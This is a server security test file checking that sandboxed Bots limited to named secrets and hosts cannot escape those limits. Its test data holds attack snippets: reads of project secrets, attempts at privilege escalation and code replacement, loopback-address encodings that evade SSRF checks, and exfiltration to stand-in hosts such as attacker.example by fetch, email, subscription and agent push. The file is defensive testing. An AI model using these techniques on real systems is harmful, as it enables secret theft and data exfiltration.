/** A Bot that names its secrets and hosts gets no other secret and reaches no other host, by any path. */
import { createServer } from 'node:http'
import t from 'tap'
import { openBotica } from '../../fixtures/botica.ts'
import { aBot, deploy, execute, handler, type Untyped } from '../../fixtures/bots/bots.ts'
import { listen } from '../../fixtures/http/listening.ts'
import { aSubscription } from '../../fixtures/http/receiver.ts'

const botica = await openBotica(t, { worker: true })
const { admin, superAdmin, project } = botica
const SECRETS = [
  { name: 'LAB_KEY', valueString: 'key of the laboratory' },
  { name: 'BANK_KEY', valueString: 'key of the bank' },
]
await setProject({ secret: SECRETS, features: ['bots', 'email', 'graphql-introspection'] })

const named = (name: string, valueString: string) => ({
  url: `urn:botica:bot-${name}`,
  valueString,
})
const extensions = (...extension: readonly object[]) => ({ fields: { extension } })

async function setProject(fields: Readonly<Record<string, unknown>>): Promise<void> {
  const current = await superAdmin.get<Untyped>(`Project/${project.id}`)
  const changed = await superAdmin.put(`Project/${project.id}`, { ...current.body, ...fields })
  t.equal(changed.status, 200, changed.text)
}

/** Makes the Bot's membership one of an administrator: the hostile case with the most rights. */
async function makeAdmin(id: string): Promise<void> {
  const found = await admin.get<Untyped>(`ProjectMembership?profile=Bot/${id}`)
  const membership = found.body.entry[0].resource
  const changed = await admin.put(`ProjectMembership/${membership.id}`, {
    ...membership,
    admin: true,
  })
  t.equal(changed.status, 200, changed.text)
}

/** A server that counts its requests. */
async function aTarget(location?: string) {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(String(request.url))
    if (location !== undefined) response.writeHead(302, { location })
    response.end('reached')
  })
  return { port: await listen(t, server), requests }
}

t.test('a Bot gets the secrets that it names', async (t) => {
  const code = handler('return Object.keys(event.secrets)')
  const all = await aBot(botica, code)
  const one = await aBot(botica, code, extensions(named('secret', 'LAB_KEY')))
  const none = await aBot(botica, code, extensions(named('secret', 'MISSING')))

  t.same((await execute(admin, all)).body, ['LAB_KEY', 'BANK_KEY'])
  t.same((await execute(admin, one)).body, ['LAB_KEY'])
  t.same((await execute(admin, none)).body, [])
})

t.test('a Bot cannot read other secrets in its Project, or extend its own', async (t) => {
  const attacks: readonly (readonly [string, string | RegExp])[] = [
    [
      `const all = await medplum.readResource('Project', '${project.id}'); return String(all.secret)`,
      'undefined',
    ],
    [
      `const all = await medplum.readHistory('Project', '${project.id}'); return JSON.stringify(all)`,
      /^(?!.*key of)/,
    ],
    [
      `return JSON.stringify(await medplum.graphql('{ Project(id: "${project.id}") { secret { valueString } } }'))`,
      /^(?!.*key of)/,
    ],
    [`return JSON.stringify(event)`, /^(?!.*key of the bank)/],
    [
      `const bot = await medplum.readResource('Bot', event.bot.reference.slice(4));
       return await medplum.updateResource({ ...bot, extension: [{ url: 'urn:botica:bot-secret', valueString: 'BANK_KEY' }] })`,
      'A Bot that is limited to the secrets and hosts it names may not write a Bot',
    ],
    [
      `return await medplum.createResource({ resourceType: 'Bot', name: 'free' })`,
      'A Bot that is limited to the secrets and hosts it names may not write a Bot',
    ],
    [
      `const all = await medplum.readResource('Project', '${project.id}');
       return await medplum.updateResource({ ...all, setting: [] })`,
      'A Bot that is limited to the secrets and hosts it names may not write a Project',
    ],
  ]
  const withToken = (path: string) => `const response = await fetch('${botica.baseUrl}${path}', {
      headers: { authorization: 'Bearer ' + medplum.getAccessToken() } })
    return response.status + await response.text()`
  const person = "firstName: 'A', lastName: 'B', email: 'a@example.org'"
  const more: typeof attacks = [
    [withToken(`admin/projects/${project.id}`), /^403/],
    [withToken(`fhir/R4/Project/${project.id}`), /^200(?!.*key of)/],
    [withToken(`fhir/R4/ClientApplication`), /^200(?!.*"secret")/],
    [
      `return await medplum.createResource({ resourceType: 'ClientApplication', name: 'free' })`,
      /may not write a ClientApplication/,
    ],
    [
      `return await medplum.invite('${project.id}', { resourceType: 'Practitioner', ${person}, membership: { admin: true } })`,
      'A Bot that names its secrets or hosts invites no administrators',
    ],
  ]
  for (const [body, expected] of [...attacks, ...more]) {
    const caught = `try { ${body} } catch (error) { return error.outcome?.issue[0].details.text ?? error.message }`
    const id = await aBot(botica, handler(caught), extensions(named('secret', 'LAB_KEY')))
    await makeAdmin(id)
    const answer = await execute(admin, id)
    t.match(answer.text, expected, `${body}\n${answer.text}`)
  }
})

t.test('a Bot cannot replace the code of another', async (t) => {
  const victim = await aBot(botica, handler('return 1'))
  const { body } = await admin.get<Untyped>(`Bot/${victim}`)
  const [, binary] = /storage\/([^/]+)/.exec(body.executableCode.url) ?? []
  const code = `const { url } = event.input
    try { await medplum.createBinary({ data: 'x', contentType: 'text/javascript', filename: 'x' }) } catch {}
    try { return await medplum.updateResource({ resourceType: 'Binary', id: '${binary}', contentType: 'text/javascript', data: 'eA==' }) }
    catch (error) { return error.outcome.issue[0].details.text }`
  const id = await aBot(botica, handler(code), extensions(named('host', 'example.org')))
  await makeAdmin(id)
  t.match((await execute(admin, id)).text, /may not write a Bot/)
  t.equal((await execute(admin, victim)).body, 1)
})

t.test('a Bot can reach only the hosts it names', async (t) => {
  const other = await aTarget()
  const redirecting = await aTarget(`http://127.0.0.1:${other.port}/stolen`)
  const own = await aTarget()
  const limits = extensions(
    named('host', `127.0.0.1:${own.port}`),
    named('host', `127.0.0.1:${redirecting.port}`),
  )
  const id = await aBot(
    botica,
    handler(`
      const { url, how } = event.input
      try {
        if (how === 'http') {
          return await new Promise((resolve, reject) => {
            require('http').get(url, (res) => resolve(String(res.statusCode))).on('error', reject)
          })
        }
        return (await fetch(url)).status
      } catch (error) { return error.cause?.message ?? error.message }`),
    limits,
  )
  const call = async (url: string, how = 'fetch') => (await execute(admin, id, { url, how })).text

  t.equal(await call(`http://127.0.0.1:${own.port}/`), '200')
  t.equal(own.requests.length, 1)
  const refusal = /is not among the hosts that the Bot names/
  t.match(await call(`http://127.0.0.1:${redirecting.port}/`), refusal, 'a redirect')
  for (const host of [
    '127.0.0.1',
    'localhost',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '2130706433',
    '127.1',
    '0x7f.0.0.1',
    'own@127.0.0.1',
  ]) {
    t.match(await call(`http://${host}:${other.port}/`), refusal, host)
    t.match(await call(`http://${host}:${other.port}/`, 'http'), refusal, `${host} by http`)
  }
  t.match(await call(`http://localhost:${own.port}/`), refusal, 'a name of a named address')
  t.match(await call(`ws://127.0.0.1:${other.port}/`), /knows http and https/)
  // Resolving it would carry data to its name servers.
  t.match(await call('http://data.attacker.invalid/'), refusal)
  t.same(other.requests, [])
})

t.test('a Bot has no web sockets', async (t) => {
  const code = `try { new WebSocket('ws://127.0.0.1:1/') } catch (error) { return error.message }`
  const id = await aBot(botica, handler(code), extensions(named('host', '127.0.0.1:1')))
  t.match((await execute(admin, id)).text, /Bots cannot open web sockets/)
})

t.test('the service sends nothing for a Bot to hosts it does not name', async (t) => {
  const agent = await admin.create({
    resourceType: 'Agent',
    name: 'hospital',
    status: 'active',
  } as Untyped)
  const device = await admin.create({
    resourceType: 'Device',
    url: 'mllp://attacker.example:5000',
  } as Untyped)
  const mail = { to: 'a@attacker.example', subject: 'data', text: 'data' }
  const push = (destination: string, contentType: string) =>
    `return await medplum.pushToAgent({ reference: 'Agent/${agent.id}' }, '${destination}', 'MSH|^~&', '${contentType}')`
  const invite = JSON.stringify({
    resourceType: 'Practitioner',
    firstName: 'A',
    lastName: 'B',
    email: 'a@attacker.example',
  })
  const subscription = JSON.stringify(aSubscription('Patient', 'https://attacker.example/'))
  const input = [
    { name: 'type', valueCode: 'Patient' },
    { name: 'url', valueUrl: 'https://attacker.example/data' },
  ]
  const parameters = JSON.stringify({
    resourceType: 'Parameters',
    parameter: [{ name: 'input', part: input }],
  })
  const attached = {
    ...mail,
    to: 'a@lab.example.org',
    attachments: [{ path: 'https://attacker.example/data' }],
  }
  const refusal = /attacker.example is not among the hosts that the Bot names/
  const attacks: readonly (readonly [string, string, RegExp])[] = [
    ['a push to a device', push(`Device/${device.id}`, 'x-application/hl7-v2+er7'), refusal],
    ['a ping', push('attacker.example', 'x-application/ping'), refusal],
    ['a mail', `return await medplum.sendEmail(${JSON.stringify(mail)})`, refusal],
    [
      'a copy',
      `return await medplum.sendEmail(${JSON.stringify({ ...mail, to: 'a@lab.example.org', bcc: 'a@attacker.example' })})`,
      refusal,
    ],
    [
      'a second recipient',
      `return await medplum.sendEmail(${JSON.stringify({ ...mail, to: 'a@attacker.example; <a@lab.example.org>' })})`,
      /to must be an address/,
    ],
    ['an attachment', `return await medplum.sendEmail(${JSON.stringify(attached)})`, refusal],
    ['an invitation', `return await medplum.invite('${project.id}', ${invite})`, refusal],
    ['a Subscription', `return await medplum.createResource(${subscription})`, refusal],
    [
      'an import',
      `return await medplum.post('fhir/R4/$import', ${parameters})`,
      /can import Binaries only/,
    ],
  ]
  for (const [name, body, expected] of attacks) {
    const caught = `try { ${body} } catch (error) { return error.outcome?.issue[0].details.text ?? error.message }`
    const id = await aBot(botica, handler(caught), extensions(named('host', '*.example.org')))
    await makeAdmin(id)
    const answer = await execute(admin, id)
    t.match(answer.text, expected, `${name}: ${answer.text}`)
  }
  const ok = `await medplum.sendEmail(${JSON.stringify({ ...mail, to: 'a@lab.example.org' })}); return 'sent'`
  for (const host of ['*.example.org', 'mailto:*']) {
    const id = await aBot(botica, handler(ok), extensions(named('host', host)))
    await makeAdmin(id)
    t.equal((await execute(admin, id)).text, 'sent', host)
  }
})

t.test('the limits hold for the token of a run and for runs as the caller', async (t) => {
  const subscription = JSON.stringify(aSubscription('Patient', 'https://attacker.example/'))
  const service = new URL(botica.baseUrl).host
  const withToken = `const response = await fetch('${botica.baseUrl}fhir/R4/Subscription', {
      method: 'POST', body: JSON.stringify(${subscription}),
      headers: { 'content-type': 'application/fhir+json', authorization: 'Bearer ' + medplum.getAccessToken() } })
    return await response.text()`
  const id = await aBot(botica, handler(withToken), extensions(named('host', service)))
  t.match((await execute(admin, id)).text, /is not among the hosts/)

  const asCaller = `try { return await medplum.createResource(${subscription}) }
    catch (error) { return error.outcome.issue[0].details.text }`
  const other = await aBot(botica, handler(asCaller), {
    fields: { runAsUser: true, extension: [named('host', service)] },
  })
  t.match((await execute(admin, other)).text, /is not among the hosts/)

  for (const body of [
    'return medplum.getAccessToken()',
    `await medplum.get('fhir/R4/Patient', { headers: { Prefer: 'respond-async' } })`,
    `await medplum.post('fhir/R4', { resourceType: 'Bundle', type: 'batch', entry: [{ request: { method: 'GET', url: 'Patient' } }] }, undefined, { headers: { Prefer: 'respond-async' } })`,
  ]) {
    const third = await aBot(botica, handler(body), {
      fields: { runAsUser: true, extension: [named('host', service)] },
    })
    const answer = await execute(admin, third)
    t.equal(answer.status, 400, answer.text)
    t.match(answer.text, /A Bot that names its secrets or hosts/)
  }
})

t.test('a Bot cannot escape its limits by acting on behalf of a member', async (t) => {
  const member = `ClientApplication/${botica.adminCredentials.id}`
  const asMember = `headers: { 'X-Medplum-On-Behalf-Of': '${member}' }`
  const service = new URL(botica.baseUrl).host
  for (const call of [
    `medplum.readResource('Project', '${project.id}', { ${asMember} })`,
    `fetch('${botica.baseUrl}fhir/R4/Project/${project.id}', { headers: {
      'X-Medplum-On-Behalf-Of': '${member}', authorization: 'Bearer ' + medplum.getAccessToken() } })
      .then((response) => response.text())`,
  ]) {
    const body = `try { return JSON.stringify(await ${call}) }
      catch (error) { return error.outcome?.issue[0].details.text ?? error.message }`
    const limits = extensions(named('secret', 'LAB_KEY'), named('host', service))
    const id = await aBot(botica, handler(body), limits)
    await makeAdmin(id)
    const { text } = await execute(admin, id)
    t.match(text, /acts for no other member/)
    t.notMatch(text, 'key of the bank')
  }
})

t.test('a Project can require declarations', async (t) => {
  const target = await aTarget()
  const code = handler(`const keys = Object.keys(event.secrets)
    try { await fetch('http://127.0.0.1:${target.port}/') } catch (error) { return [keys, error.cause.message] }
    return [keys, 'reached']`)
  const id = await aBot(botica, code)
  t.same((await execute(admin, id)).body, [['LAB_KEY', 'BANK_KEY'], 'reached'])

  await setProject({ setting: [{ name: 'botDeclarationsRequired', valueBoolean: true }] })
  t.same((await execute(admin, id)).body, [
    [],
    '127.0.0.1 is not among the hosts that the Bot names',
  ])
  t.equal((await deploy(admin, id, code)).body.issue.length, 3)
  t.equal(target.requests.length, 1)
})
